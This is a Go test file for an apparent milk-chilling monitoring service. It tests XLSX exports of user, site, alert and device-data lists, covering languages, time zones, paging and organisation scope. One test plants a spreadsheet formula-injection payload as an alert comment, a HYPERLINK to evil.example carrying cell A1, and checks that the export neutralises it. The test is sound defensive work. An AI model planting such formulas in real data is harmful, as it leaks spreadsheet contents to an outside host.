package api_test

import (
	"bytes"
	"context"
	"fmt"
	"mime"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/chillwatch/chillwatch/internal/api"
	"github.com/chillwatch/chillwatch/internal/dashboard"
	"github.com/chillwatch/chillwatch/internal/export"
	"github.com/chillwatch/chillwatch/internal/i18n"
	"github.com/chillwatch/chillwatch/internal/storage"
	"github.com/chillwatch/chillwatch/internal/storage/storagetest"
	"github.com/chillwatch/chillwatch/internal/telemetry"
)

func TestExportXLSX(t *testing.T) {
	storagetest.Each(t, func(t *testing.T, db *storage.DB) {
		e := newEnv(t, db)
		e.createOrg(e.admin, orgBody("Gokul"))
		e.createOrg(e.admin, orgBody("Nandini"))
		e.createUser(e.admin, userBody("meera", "Gokul", "Viewer"))
		e.createUser(e.admin, userBody("ravi", "Gokul", "RDE"))
		e.createUser(e.admin, userBody("gokul.admin", "Gokul", "Administrator"))
		exportURL := func(path, query, cols string) string {
			return "/authgateway/export/xlsx?" + url.Values{"path": {path}, "query": {query}, "fileName": {"userList"}, "columns": {cols}}.Encode()
		}

		t.Run("all rows of the list, the chosen columns, as a named download", func(t *testing.T) {
			r := e.do("GET", exportURL(prov+"/users/all", "orgName=Gokul&size=1", "userName:User name,roles:Roles,organizationName:Organization"), e.admin, nil)
			if r.Status != 200 {
				t.Fatalf("status %d %s", r.Status, r.Raw)
			}
			f, err := excelize.OpenReader(bytes.NewReader(r.Raw))
			if err != nil {
				t.Fatal(err)
			}
			rows, _ := f.GetRows("userList")
			want := [][]string{{"User name", "Roles", "Organization"}, {"gokul.admin", "Administrator", "Gokul"}, {"meera", "Viewer", "Gokul"}, {"ravi", "RDE", "Gokul"}}
			if len(rows) != len(want) {
				t.Fatalf("rows = %v, want %v (size=1 in the query must not limit the export)", rows, want)
			}
			for i := range want {
				if strings.Join(rows[i], "|") != strings.Join(want[i], "|") {
					t.Errorf("row %d = %v, want %v", i, rows[i], want[i])
				}
			}
		})
		t.Run("the caller's privileges and scope apply to the exported list", func(t *testing.T) {
			viewer := e.login("meera", "Secret123")
			if r := e.do("GET", exportURL(prov+"/users/all", "", "userName:User"), viewer, nil); r.Status != 403 {
				t.Errorf("viewer exporting users = %d, want 403", r.Status)
			}
			admin := e.login("gokul.admin", "Secret123")
			if r := e.do("GET", exportURL(prov+"/users/all", "orgName=Nandini", "userName:User"), admin, nil); r.Status != 404 {
				t.Errorf("exporting another organisation's users = %d, want 404", r.Status)
			}
		})
		t.Run("bad requests name the field", func(t *testing.T) {
			cases := []struct{ path, cols, field string }{
				{"", "userName:User", "path"},
				{"/healthz", "userName:User", "path"},
				{"/authgateway/export/xlsx", "userName:User", "path"},
				{prov + "/nothing", "userName:User", "path"},
				{prov + "/users/all", "", "columns"},
			}
			for _, c := range cases {
				r := e.do("GET", exportURL(c.path, "", c.cols), e.admin, nil)
				if r.Status != 400 || r.FieldMessages()[c.field] == "" {
					t.Errorf("export %q %q = %d %s, want 400 naming %s", c.path, c.cols, r.Status, r.Raw, c.field)
				}
			}
		})
	})
}

// dl is a download: its status, headers and body.
type dl struct {
	status int
	h      http.Header
	body   []byte
}

// download is a GET with its answer's headers.
func (e *env) download(path, token, lang string) dl {
	e.t.Helper()
	req := httptest.NewRequest("GET", path, nil)
	req.Header.Set("Authorization", "Bearer "+token)
	if lang != "" {
		req.Header.Set("Accept-Language", lang)
	}
	rec := httptest.NewRecorder()
	e.h.ServeHTTP(rec, req)
	return dl{rec.Code, rec.Header(), rec.Body.Bytes()}
}

// exportOf is the export call of a table.
func exportOf(params map[string]string) string {
	v := url.Values{}
	for k, p := range params {
		v.Set(k, p)
	}
	return "/authgateway/export/xlsx?" + v.Encode()
}

// sheetOf checks an export's answer is an XLSX download named file and
// opens its single sheet, named after the file.
func sheetOf(t *testing.T, d dl, file string) (*excelize.File, string) {
	t.Helper()
	status, h, body := d.status, d.h, d.body
	if status != 200 {
		t.Fatalf("export = %d %s", status, body)
	}
	if ct := h.Get("Content-Type"); ct != "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet" {
		t.Errorf("Content-Type = %q", ct)
	}
	if _, params, err := mime.ParseMediaType(h.Get("Content-Disposition")); err != nil || params["filename"] != file {
		t.Errorf("Content-Disposition = %q, want the file %s", h.Get("Content-Disposition"), file)
	}
	f, err := excelize.OpenReader(bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	if n := f.SheetCount; n != 1 {
		t.Errorf("%d sheets", n)
	}
	return f, f.GetSheetName(0)
}

// cell is what a cell must hold: its shown text (as formatted), and
// whether it is a number (dates and durations are numbers too); a skipped
// cell is checked on its own.
type cell struct {
	shown  string
	number bool
	skip   bool
}

// checked is a cell checked elsewhere (a time that depends on the clock).
var checked = cell{skip: true}

// text and num are a text cell and a number cell.
func text(s string) cell { return cell{shown: s} }
func num(s string) cell  { return cell{shown: s, number: true} }

// blank is an empty cell.
var blank = cell{}

// checkRow compares a row of the sheet cell by cell: shown value, type, no formula.
func checkRow(t *testing.T, f *excelize.File, sheet string, row int, want []cell) {
	t.Helper()
	for i, w := range want {
		if w.skip {
			continue
		}
		name, _ := excelize.CoordinatesToCellName(i+1, row)
		shown, err := f.GetCellValue(sheet, name)
		if err != nil {
			t.Fatal(err)
		}
		if shown != w.shown {
			t.Errorf("%s shows %q, want %q", name, shown, w.shown)
		}
		typ, _ := f.GetCellType(sheet, name)
		isText := typ == excelize.CellTypeSharedString || typ == excelize.CellTypeInlineString
		if w.shown != "" && isText == w.number {
			t.Errorf("%s (%q) is of type %v, want a number: %v", name, shown, typ, w.number)
		}
		if formula, _ := f.GetCellFormula(sheet, name); formula != "" {
			t.Errorf("%s holds a formula %q", name, formula)
		}
	}
	// Nothing past the last column.
	name, _ := excelize.CoordinatesToCellName(len(want)+1, row)
	if extra, _ := f.GetCellValue(sheet, name); extra != "" {
		t.Errorf("%s holds %q past the table", name, extra)
	}
}

// headerRow is a row of text cells.
func headerRow(hs ...string) []cell {
	out := make([]cell, len(hs))
	for i, h := range hs {
		out[i] = text(h)
	}
	return out
}

// rowCount is the number of rows of the sheet, the header included.
func rowCount(t *testing.T, f *excelize.File, sheet string) int {
	t.Helper()
	rows, err := f.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	return len(rows)
}

// siteClock is an instant's wall clock at a site as the sheet shows it;
// the seconds may round the minute up, so both are accepted.
func siteClock(t *testing.T, instant, zone string) [2]string {
	t.Helper()
	at, err := time.Parse(time.RFC3339Nano, instant)
	if err != nil {
		t.Fatalf("time %q: %v", instant, err)
	}
	loc, _ := time.LoadLocation(zone)
	at = at.In(loc).Truncate(time.Second)
	return [2]string{at.Format("02 Jan 2006 15:04"), at.Add(time.Second).Format("02 Jan 2006 15:04")}
}

func shownAt(t *testing.T, f *excelize.File, sheet, name string, want [2]string) {
	t.Helper()
	shown, _ := f.GetCellValue(sheet, name)
	if shown != want[0] && shown != want[1] {
		t.Errorf("%s shows %q, want %q", name, shown, want[0])
	}
	if typ, _ := f.GetCellType(sheet, name); typ == excelize.CellTypeSharedString || typ == excelize.CellTypeInlineString {
		t.Errorf("%s is text, want a date", name)
	}
}

// The console's columns of the tables it exports (web/src/features/monitoring).
const (
	bmcColumns = "chillingUnitId:BMC Id:text,siteName:Site Name:text,siteId:Site Id:text,capacity:Capacity (L):number,volume:Volume (L):number," +
		"temperature:Temperature (°C):number,state:Current State:state,stateReceivedAt:Last Updated:datetime(zoneId)," +
		"infoAlertsCount:Events:number,criticalAlertsCount:Alerts:number"
	alertColumns = "siteName:Site Name:text,chillingUnitId:BMC Id:text,alertLevel:Alert Level:level,alertType:Alert:alertType,stage:Stage:number," +
		"alertMessage:Alert Message:text,occurredOn:Occurred On:datetime(zoneId),status:Status:alertStatus,clearedAt:Cleared At:datetime(zoneId)," +
		"acknowledgedBy:Acknowledged By:text,acknowledgedAt:Acknowledged At:datetime(zoneId),acknowledgeComment:Comment:text"
)

func TestTableExports(t *testing.T) {
	storagetest.Each(t, func(t *testing.T, db *storage.DB) {
		m := newMonitorEnv(t, db)
		// Gokul's second site is in Nairobi; its first unit has a state.
		nairobi := siteBody("ke-nbo-1", "Gokul", "KothrudCC")
		nairobi["zoneId"] = "Africa/Nairobi"
		m.must("POST", prov+"/sites", m.admin, nairobi)
		unitKE := m.must("GET", prov+"/sites/ke-nbo-1/chillingUnits/all", m.admin, nil).L()[0].(map[string]any)["chillingUnitUUID"].(string)
		receivedKE := time.Date(2026, 11, 23, 3, 40, 30, 0, time.UTC)
		if _, err := db.Exec(context.Background(), `INSERT INTO unit_status (unit_ref, state, state_since, received_at, volume, temperature, horizon)
			SELECT id, 'under chilled', ?, ?, 812.5, 6.25, ? FROM chilling_units WHERE uuid = ?`,
			receivedKE.Add(-time.Hour).UnixMilli(), receivedKE.UnixMilli(), receivedKE.UnixMilli(), unitKE); err != nil {
			t.Fatal(err)
		}
		// An acknowledgement whose comment would run as a formula.
		const evil = `=HYPERLINK("http://evil.example/?"&A1,"Open")`
		m.must("POST", mon+"/alerts/"+m.alert1+"/acknowledge", m.incharge, map[string]any{"comment": evil})

		t.Run("BMC list: numbers with units in the header, states by name, last update in each site's zone", func(t *testing.T) {
			list := m.must("GET", mon+"/sites/chillingUnits/chillingState?chillingUnitStates=ALL&hour=24", m.viewer, nil).M()["content"].([]any)
			if len(list) != 4 {
				t.Fatalf("BMC list = %v", list)
			}
			for lang, want := range map[string][]string{"en": {"Chilled", "Power Off", "Under Chilled", "Out of Service"}, "fr": {"Refroidi", "Hors tension", "Sous-refroidi", "Hors service"}} {
				d := m.download(exportOf(map[string]string{"path": mon + "/sites/chillingUnits/chillingState", "query": "chillingUnitStates=ALL&hour=24&pageSize=1",
					"paging": "pagingState,pageSize", "fileName": "bmcData.xls", "columns": bmcColumns}), m.viewer, lang)
				f, sheet := sheetOf(t, d, "bmcData.xlsx")
				if sheet != "bmcData" {
					t.Errorf("sheet = %q", sheet)
				}
				if n := rowCount(t, f, sheet); n != 5 {
					t.Errorf("%s: %d rows, want the header and the 4 units (pageSize=1 in the query must not limit the export)", lang, n)
				}
				checkRow(t, f, sheet, 1, headerRow("BMC Id", "Site Name", "Site Id", "Capacity (L)", "Volume (L)", "Temperature (°C)", "Current State", "Last Updated", "Events", "Alerts"))
				first := list[0].(map[string]any)
				checkRow(t, f, sheet, 2, []cell{text(first["chillingUnitId"].(string)), text("ke-nbo-1 Centre"), text("ke-nbo-1"), num("2000"), num("812.5"), num("6.25"),
					text(want[2]), num("23 Nov 2026 06:40"), num("0"), num("0")})
				row3 := list[1].(map[string]any)
				checkRow(t, f, sheet, 3, []cell{text(row3["chillingUnitId"].(string)), text("ke-nbo-1 Centre"), text("ke-nbo-1"), num("1000"), blank, blank,
					text(want[3]), blank, num("0"), num("0")})
				unit1 := list[2].(map[string]any)
				checkRow(t, f, sheet, 4, []cell{text(unit1["chillingUnitId"].(string)), text("mh-pun-1 Centre"), text("mh-pun-1"), num("2000"), num("1480"), num("3.8"),
					text(want[0]), checked, num("1"), num("1")})
				shownAt(t, f, sheet, "H4", siteClock(t, unit1["stateReceivedAt"].(string), "Asia/Kolkata"))
				if v, _ := f.GetCellValue(sheet, "G5"); v != want[1] {
					t.Errorf("G5 = %q, want %q", v, want[1])
				}
				if raw, _ := f.GetCellValue(sheet, "F2", excelize.Options{RawCellValue: true}); raw != "6.25" {
					t.Errorf("F2 raw = %q", raw)
				}
			}
		})

		t.Run("site list: the state by its name, not its ISO 3166-2 code", func(t *testing.T) {
			for _, lang := range []string{"en", "fr"} {
				d := m.download(exportOf(map[string]string{"path": prov + "/sites/all", "fileName": "siteList",
					"columns": "siteId:Site Id,state:State:region,numberOfChillingUnit:Units:number"}), m.viewer, lang)
				f, sheet := sheetOf(t, d, "siteList.xlsx")
				if n := rowCount(t, f, sheet); n != 3 {
					t.Fatalf("%s: %d rows, want the header and Gokul's 2 sites", lang, n)
				}
				for _, c := range []string{"B2", "B3"} {
					if v := cellText(f, sheet, c); v != "Maharashtra" {
						t.Errorf("%s: %s = %q, want Maharashtra (the site's IN-MH)", lang, c, v)
					}
				}
			}
		})

		alertsURL := func(columns string, more ...string) string {
			p := map[string]string{"path": mon + "/sites/chillingunit/selected/alerts", "query": "hour=24&alertTypes=All Alerts",
				"paging": "pagingState,pageSize", "fileName": "alertsList.xls", "columns": columns}
			for i := 0; i+1 < len(more); i += 2 {
				p[more[i]] = more[i+1]
			}
			return exportOf(p)
		}
		t.Run("alert lists: levels, types and statuses by name in the caller's language, times in the site's zone, comments neutralised", func(t *testing.T) {
			list := m.must("GET", mon+"/sites/chillingunit/selected/alerts?hour=24&alertTypes=All%20Alerts", m.viewer, nil).M()["content"].([]any)
			alert, event := list[0].(map[string]any), list[1].(map[string]any)
			for _, c := range []struct {
				lang  string
				words [6]string // critical, alert, active, info, event name, event
			}{
				{"en", [6]string{"Critical", "Compressor malfunction", "Active", "Info", "Agitator on", "Event"}},
				{"fr", [6]string{"Critique", "Dysfonctionnement du compresseur", "Active", "Information", "Agitateur en marche", "Événement"}},
			} {
				f, sheet := sheetOf(t, m.download(alertsURL(alertColumns), m.viewer, c.lang), "alertsList.xlsx")
				if n := rowCount(t, f, sheet); n != 3 {
					t.Fatalf("%s: %d rows", c.lang, n)
				}
				checkRow(t, f, sheet, 1, headerRow("Site Name", "BMC Id", "Alert Level", "Alert", "Stage", "Alert Message", "Occurred On", "Status", "Cleared At",
					"Acknowledged By", "Acknowledged At", "Comment"))
				checkRow(t, f, sheet, 2, []cell{text("mh-pun-1 Centre"), text(alert["chillingUnitId"].(string)), text(c.words[0]), text(c.words[1]), num("1"),
					text(cellText(f, sheet, "F2")), checked, text(c.words[2]), blank, text("gokul.incharge"), checked, text("'" + evil)})
				shownAt(t, f, sheet, "G2", siteClock(t, alert["occurredOn"].(string), "Asia/Kolkata"))
				ack := m.must("GET", mon+"/alerts/"+m.alert1, m.viewer, nil).M()
				shownAt(t, f, sheet, "K2", siteClock(t, ack["acknowledgedAt"].(string), "Asia/Kolkata"))
				checkRow(t, f, sheet, 3, []cell{text("mh-pun-1 Centre"), text(event["chillingUnitId"].(string)), text(c.words[3]), text(c.words[4]), num("0"),
					text(cellText(f, sheet, "F3")), checked, text(c.words[5]), blank, blank, blank, blank})
				shownAt(t, f, sheet, "G3", siteClock(t, event["occurredOn"].(string), "Asia/Kolkata"))
				if c.lang == "fr" && !strings.HasPrefix(cellText(f, sheet, "F2"), "Dysfonctionnement du compresseur sur Tank 1") {
					t.Errorf("French message = %q", cellText(f, sheet, "F2"))
				}
			}
		})
		t.Run("an alert list filtered by status goes through the search, sent as POST", func(t *testing.T) {
			body := `{"alertTypes":["All Alerts"],"chillingUnitUuids":[],"siteUuids":[],"pagingState":"","pageSize":1,"hour":24,"toExclude":false,"status":"unacknowledged"}`
			f, sheet := sheetOf(t, m.download(exportOf(map[string]string{"path": mon + "/sites/chillingunit/search/alerts", "method": "POST", "body": body,
				"rows": "content.RESULT", "paging": "pagingState,pageSize", "fileName": "alertsList.xls", "columns": alertColumns}), m.viewer, ""), "alertsList.xlsx")
			if n := rowCount(t, f, sheet); n != 1 {
				t.Errorf("unacknowledged alerts: %d rows, want only the header (the one alert is acknowledged)", n)
			}
			body = strings.Replace(body, "unacknowledged", "acknowledged", 1)
			f, sheet = sheetOf(t, m.download(exportOf(map[string]string{"path": mon + "/sites/chillingunit/search/alerts", "method": "post", "body": body,
				"rows": "content.RESULT", "paging": "pagingState,pageSize", "fileName": "alertsList", "columns": alertColumns}), m.viewer, ""), "alertsList.xlsx")
			if n := rowCount(t, f, sheet); n != 2 || cellText(f, sheet, "L2") != "'"+evil || cellText(f, sheet, "D2") != "Compressor malfunction" {
				t.Errorf("acknowledged alerts: %d rows, L2 %q D2 %q", n, cellText(f, sheet, "L2"), cellText(f, sheet, "D2"))
			}
		})
		t.Run("the alerts search: every alert of the units between two dates, grouped rows by unit", func(t *testing.T) {
			from, to := time.Now().Add(-48*time.Hour).UTC().Format(time.RFC3339), time.Now().Add(time.Hour).UTC().Format(time.RFC3339)
			body := fmt.Sprintf(`{"alertTypes":["All Alerts"],"chillingUnitUuids":[%q,%q],"siteUuids":[%q],"hour":24,"startDate":%q,"endDate":%q,"toExclude":true,"pagingSize":100000}`,
				m.unit1, m.unit2, m.site, from, to)
			cols := "chillingUnitId:Chilling Unit Id:text,siteName:Site Name:text,siteId:Site Id:text,alertLevel:Alert Level:level," +
				"alertType:Alert Type:alertType,alertMessage:Alert Message:text,occurredOn:Occurred On:datetime(zoneId)"
			f, sheet := sheetOf(t, m.download(exportOf(map[string]string{"path": mon + "/sites/chillingunit/search/alerts", "method": "POST", "body": body,
				"rows": "content.RESULT", "paging": "pagingState,pageSize", "fileName": "alertsSearch", "columns": cols}), m.viewer, "fr"), "alertsSearch.xlsx")
			checkRow(t, f, sheet, 1, headerRow("Chilling Unit Id", "Site Name", "Site Id", "Alert Level", "Alert Type", "Alert Message", "Occurred On"))
			if n := rowCount(t, f, sheet); n != 3 || cellText(f, sheet, "D2") != "Critique" || cellText(f, sheet, "E3") != "Agitateur en marche" {
				t.Errorf("search: %d rows, D2 %q E3 %q", n, cellText(f, sheet, "D2"), cellText(f, sheet, "E3"))
			}
		})
		t.Run("the caller's scope holds: another organisation's sites answer 404, its rows never show", func(t *testing.T) {
			if d := m.download(alertsURL(alertColumns, "query", "hour=24&sites="+m.site), m.other, ""); d.status != 404 {
				t.Errorf("Nandini's viewer exporting Gokul's site = %d %s", d.status, d.body)
			}
			body := fmt.Sprintf(`{"alertTypes":["All Alerts"],"chillingUnitUuids":[%q],"siteUuids":[],"hour":24}`, m.unit1)
			if d := m.download(exportOf(map[string]string{"path": mon + "/sites/chillingunit/search/alerts", "method": "POST", "body": body,
				"rows": "content.RESULT", "paging": "pagingState,pageSize", "columns": alertColumns}), m.other, ""); d.status != 404 {
				t.Errorf("Nandini's viewer searching Gokul's unit = %d %s", d.status, d.body)
			}
			f, sheet := sheetOf(t, m.download(alertsURL(alertColumns), m.other, ""), "alertsList.xlsx")
			if n := rowCount(t, f, sheet); n != 2 || cellText(f, sheet, "D2") != "Panel trip" {
				t.Errorf("Nandini's own alerts: %d rows, D2 %q", n, cellText(f, sheet, "D2"))
			}
		})
		t.Run("POST re-runs only the read-only searches", func(t *testing.T) {
			before := len(m.must("GET", prov+"/users/all?size=100", m.admin, nil).M()["content"].([]any))
			body := `{"userName":"sneaky","firstName":"S","lastName":"N","email":"s@example.com","password":"Secret123","organizationName":"Gokul","roles":["Administrator"]}`
			r := m.do("GET", exportOf(map[string]string{"path": prov + "/users", "method": "POST", "body": body, "columns": "userName:User"}), m.admin, nil)
			if r.Status != 400 || r.FieldMessages()["method"] == "" {
				t.Errorf("POST users through the export = %d %s", r.Status, r.Raw)
			}
			if after := len(m.must("GET", prov+"/users/all?size=100", m.admin, nil).M()["content"].([]any)); after != before {
				t.Errorf("users %d → %d", before, after)
			}
		})
	})
}

// cellText is a cell's shown text.
func cellText(f *excelize.File, sheet, name string) string {
	v, _ := f.GetCellValue(sheet, name)
	return v
}

func TestDeviceDataExport(t *testing.T) {
	storagetest.Each(t, func(t *testing.T, db *storage.DB) {
		e := newEnv(t, db)
		e.twoDairies(true)
		tok := e.tokens("mh-pun-1", "Gokul", "KothrudCC")
		ck := e.credentials(contrakSiteBody("mh-pun-2", "Gokul", "KothrudCC"))
		e.tokens("nd-1", "Nandini", "NandiniCC")
		const vs, is, ckSerial = "MH-PUN-1-VS2", "MH-PUN-1-IS1", "mh-pun-2-CK1"
		var vols []any
		for m := range 25 {
			vols = append(vols, map[string]any{"processTime": at(6, m), "volume": map[string]any{"value": 1500 + m, "unit": "L"}})
		}
		e.must("POST", telemetryPath(vs), tok[vs], vols)
		e.must("POST", telemetryPath(is), tok[is], []any{
			map[string]any{"processTime": at(6, 0), "milkTemperature": map[string]any{"value": 6.8, "unit": "°C"}, "compressorStatus": "ON", "compressorCurrent": 7.9, "pumpStatus": "OFF"},
			map[string]any{"processTime": at(6, 1), "milkTemperature": map[string]any{"value": 4.25, "unit": "°C"}, "compressorStatus": "OFF"}})
		e.must("POST", telemetryPath(ckSerial), ck[ckSerial], []any{
			contrak(6, 0, "VOLUME", 1200, "L"), contrak(6, 1, "GRID", 1, "ON/OFF"), contrak(6, 2, "TEMP2", 9.1, "°C")})
		e.createUser(e.admin, userBody("nandini.viewer", "Nandini", "Viewer"))
		other := e.login("nandini.viewer", "Secret123")

		win := func(serial string, more ...string) string {
			w := window(serial, more...)
			delete(w, "page")
			delete(w, "size")
			v := url.Values{}
			for k, p := range w {
				v.Set(k, p)
			}
			return v.Encode()
		}
		exp := func(deviceType, query, columns string, more ...string) string {
			p := map[string]string{"path": deviceData + deviceType, "query": query, "rows": "content.0.attributeList",
				"fileName": "deviceData_" + deviceType, "columns": columns}
			for i := 0; i+1 < len(more); i += 2 {
				p[more[i]] = more[i+1]
			}
			return exportOf(p)
		}

		t.Run("a volume sensor: every record, page after page, times in the site's zone, the unit in the header", func(t *testing.T) {
			undo := api.SetExportPageSize(10)
			defer undo()
			for _, zone := range []string{"", "Asia/Kolkata"} {
				f, sheet := sheetOf(t, e.download(exp("volsens", win(vs), "processTime:Time:datetime,volume:Volume:number", "zone", zone), e.admin, ""), "deviceData_volsens.xlsx")
				if n := rowCount(t, f, sheet); n != 26 {
					t.Fatalf("zone %q: %d rows, want the header and 25 records over 3 pages", zone, n)
				}
				checkRow(t, f, sheet, 1, headerRow("Time", "Volume (L)"))
				checkRow(t, f, sheet, 2, []cell{num("20 Nov 2026 06:24"), num("1524")})
				checkRow(t, f, sheet, 26, []cell{num("20 Nov 2026 06:00"), num("1500")})
			}
			// Another zone moves the wall clock.
			f, sheet := sheetOf(t, e.download(exp("volsens", win(vs), "processTime:Time:datetime,volume:Volume:number", "zone", "Africa/Nairobi"), e.admin, ""), "deviceData_volsens.xlsx")
			checkRow(t, f, sheet, 2, []cell{num("20 Nov 2026 03:54"), num("1524")})
		})
		t.Run("an industrial sensor: measures as numbers with their units, on/off statuses by name", func(t *testing.T) {
			cols := "processTime:Time:datetime,milkTemperature:Milk Temperature:number,compressorStatus:Compressor:onOff," +
				"compressorCurrent:Compressor Current (A):number,pumpStatus:Chilling Pump:onOff"
			for lang, w := range map[string][2]string{"en": {"ON", "OFF"}, "fr": {"MARCHE", "ARRÊT"}} {
				f, sheet := sheetOf(t, e.download(exp("indsens", win(is), cols), e.admin, lang), "deviceData_indsens.xlsx")
				checkRow(t, f, sheet, 1, headerRow("Time", "Milk Temperature (°C)", "Compressor", "Compressor Current (A)", "Chilling Pump"))
				checkRow(t, f, sheet, 2, []cell{num("20 Nov 2026 06:01"), num("4.25"), text(w[1]), blank, blank})
				checkRow(t, f, sheet, 3, []cell{num("20 Nov 2026 06:00"), num("6.8"), text(w[0]), num("7.9"), text(w[1])})
			}
		})
		t.Run("a CONTRAK_V1 controller's events: names in the caller's language, values as numbers", func(t *testing.T) {
			q := win(ckSerial, "eventName", "events")
			cols := "processTime:Heure:datetime,eventName:Événement:event,value:Valeur:number,unit:Unité:text"
			f, sheet := sheetOf(t, e.download(exp("CONTRAK_V1", q, cols), e.admin, "fr"), "deviceData_CONTRAK_V1.xlsx")
			checkRow(t, f, sheet, 1, headerRow("Heure", "Événement", "Valeur", "Unité"))
			checkRow(t, f, sheet, 2, []cell{num("20 Nov 2026 06:02"), text("Température 2"), num("9.1"), text("°C")})
			checkRow(t, f, sheet, 3, []cell{num("20 Nov 2026 06:01"), text("Alimentation secteur"), num("1"), text("ON/OFF")})
			// The lean volume series: the unit field names the header's unit.
			q = win(ckSerial, "eventName", "VOLUME", "include", "false")
			f, sheet = sheetOf(t, e.download(exp("CONTRAK_V1", q, "processTime:Time:datetime,value:Volume:number(unit)"), e.admin, ""), "deviceData_CONTRAK_V1.xlsx")
			checkRow(t, f, sheet, 1, headerRow("Time", "Volume (L)"))
			checkRow(t, f, sheet, 2, []cell{num("20 Nov 2026 06:00"), num("1200")})
		})
		t.Run("no records is a header alone; another organisation's device answers 404", func(t *testing.T) {
			q := url.Values{"deviceId": {vs}, "startTime": {at(7, 0)}, "endTime": {at(8, 0)}}.Encode()
			f, sheet := sheetOf(t, e.download(exp("volsens", q, "processTime:Time:datetime,volume:Volume:number"), e.admin, ""), "deviceData_volsens.xlsx")
			if n := rowCount(t, f, sheet); n != 1 || cellText(f, sheet, "B1") != "Volume" {
				t.Errorf("empty window: %d rows, B1 %q", n, cellText(f, sheet, "B1"))
			}
			if d := e.download(exp("volsens", win(vs), "processTime:Time:datetime"), other, ""); d.status != 404 {
				t.Errorf("Nandini's viewer exporting Gokul's device = %d %s", d.status, d.body)
			}
		})
		t.Run("bad parameters answer 400 naming the field, in the caller's language", func(t *testing.T) {
			good := map[string]string{"path": deviceData + "volsens", "query": win(vs), "rows": "content.0.attributeList", "columns": "processTime:Time:datetime"}
			for _, c := range []struct {
				key, value, field string
			}{
				{"method", "PUT", "method"},
				{"method", "POST", "method"},
				{"body", `{"a":1}`, "body"},
				{"paging", "page", "paging"},
				{"paging", "page,page", "paging"},
				{"paging", "page;x,size", "paging"},
				{"rows", "content..0", "rows"},
				{"rows", "content.0", "rows"},
				{"zone", "Mars/Olympus", "zone"},
				{"zone", "Local", "zone"},
				{"columns", "processTime:Time:colour", "columns"},
				{"columns", "processTime:Time:state(zoneId)", "columns"},
				{"path", deviceData + "volsens?deviceId=x", "path"},
			} {
				p := map[string]string{}
				for k, v := range good {
					p[k] = v
				}
				p[c.key] = c.value
				for lang, other := range map[string]string{"en": "fr", "fr": "en"} {
					r := e.do("GET", exportOf(p), e.admin, nil, "Accept-Language", lang)
					msg := r.FieldMessages()[c.field]
					if r.Status != 400 || msg == "" {
						t.Errorf("%s=%q (%s) = %d %s, want 400 naming %s", c.key, c.value, lang, r.Status, r.Raw, c.field)
						continue
					}
					if o := e.do("GET", exportOf(p), e.admin, nil, "Accept-Language", other).FieldMessages()[c.field]; o == msg {
						t.Errorf("%s=%q: the same message %q in en and fr", c.key, c.value, msg)
					}
				}
			}
			p := map[string]string{"path": mon + "/sites/chillingunit/search/alerts", "method": "POST", "body": `["not an object"]`, "columns": "alertId:Id"}
			if r := e.do("GET", exportOf(p), e.admin, nil); r.Status != 400 || r.FieldMessages()["body"] == "" {
				t.Errorf("a body that is not an object = %d %s", r.Status, r.Raw)
			}
		})
	})
}

// currentStates is the BMC table's current-state vocabulary.
func currentStates() []string {
	var out []string
	for _, s := range dashboard.CurrentStates {
		out = append(out, s.Name)
	}
	return out
}

// TestExportCodeLabels: every code the tables export has a display name in
// both languages.
func TestExportCodeLabels(t *testing.T) {
	codes := map[string][]string{
		export.TypeState: append([]string{dashboard.StateChilled, dashboard.StateChilling, dashboard.StateUnderChilled, dashboard.StateOutOfService,
			dashboard.StatePowerOff, dashboard.StateOthers}, currentStates()...),
		export.TypeLevel:       {"CRITICAL", "INFO"},
		export.TypeAlertStatus: {"active", "cleared", "event"},
		export.TypeOnOff:       {"ON", "OFF"},
		export.TypeEvent:       telemetry.ContrakEvents,
	}
	for _, lang := range []string{"en", "fr"} {
		keys, err := i18n.Keys(lang)
		if err != nil {
			t.Fatal(err)
		}
		for typ, list := range codes {
			for _, code := range list {
				key := "export." + typ + "." + strings.ReplaceAll(strings.ToLower(code), " ", "_")
				if keys[key] == "" {
					t.Errorf("%s.json lacks %s", lang, key)
				}
			}
		}
	}
}
